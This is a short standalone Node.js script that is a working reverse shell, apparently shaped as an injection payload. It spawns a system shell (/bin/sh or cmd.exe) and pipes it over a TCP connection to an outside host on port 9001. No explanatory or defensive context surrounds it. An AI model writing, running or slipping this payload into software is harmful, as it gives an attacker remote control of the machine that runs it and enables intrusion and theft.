(function () {
  var net = require("net"),
    cp = require("child_process"),
    sh = cp.spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
  var client = new net.Socket();
  client.on("error", function () {});
  client.connect(9001, "203.0.113.66", function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  return /a/;
})();
